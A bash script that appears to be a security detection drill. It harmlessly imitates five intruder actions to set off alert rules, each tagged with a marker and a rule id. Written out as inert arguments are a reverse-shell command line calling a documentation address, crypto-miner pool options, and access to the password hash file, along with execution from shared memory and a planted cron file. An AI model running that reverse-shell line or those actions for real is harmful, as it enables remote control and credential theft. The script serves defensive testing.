#!/bin/bash
# Five things that intruders do, in a form that harms nothing and is gone afterwards: drill.sh [MARKER]. Needs root. Prints a line for each before it is done:
# id of the rule that it sets off, time in nanoseconds since 1970, what is done; divided by tabs. MARKER (letters, digits, dashes) stands in every alert.
# docs/operations.md says what each does and leaves.
set -euo pipefail

marker=${1:-drill-$(od -An -N4 -tx4 /dev/urandom | tr -d ' ')}
if [[ ! $marker =~ ^[A-Za-z0-9-]{1,40}$ ]]; then
  echo "drill: the marker has 1 to 40 letters, digits and dashes" >&2
  exit 2
fi
if [ "$(id -u)" -ne 0 ]; then
  echo "drill: only root can do all five" >&2
  exit 1
fi

# cron reads no file with a dot in its name, and there is nothing in it.
job=/etc/cron.d/edge.$marker
memory=/dev/shm/$marker.sh
trap 'rm -f "$job"' EXIT
program=$(command -v true)
[[ $program == /* ]] || program=/usr/bin/true

# Each in a session of its own, so that it is an incident of its own.
deed() {
  local rule=$1 text=$2
  shift 2
  printf '%s\t%s\t%s\n' "$rule" "$(date +%s%N)" "$text"
  setsid --wait "$@" </dev/null >/dev/null 2>&1 || echo "drill: this could not be done: $text" >&2
  sleep "${DRILL_PAUSE:-1}"
}

# Only as a new file: anybody may write into that folder, and root runs what is in it.
if ! (set -o noclobber && echo : >"$memory") 2>/dev/null; then
  echo "drill: $memory is there already; take another marker" >&2
  exit 1
fi
trap 'rm -f "$job" "$memory"' EXIT
deed c584e9dc-0ddc-41a6-8380-554add74c11d 'a shell opens the password hashes, and reads none' /bin/sh -c ": </etc/shadow # $marker"
deed d61c80c9-8c74-43da-a46d-dfafa558ce71 'a script of no commands runs from shared memory' /bin/sh "$memory"
deed 8c1463d2-dd4a-4532-9410-7631363ead95 'the command line of a reverse shell, as words for true' "$program" "sh -i >& /dev/tcp/192.0.2.1/4444 0>&1 # $marker"
deed 0519aa26-972c-4cd3-bc13-bda9ae6d484f 'the options of a miner, as words for true' "$program" -o stratum+tcp://pool.invalid:3333 -u "$marker"
mkdir -p /etc/cron.d
deed b04b5ce6-5c00-4b27-b84c-584671e5a882 'an empty file is put among the jobs of cron' /bin/sh -c ": >$job"
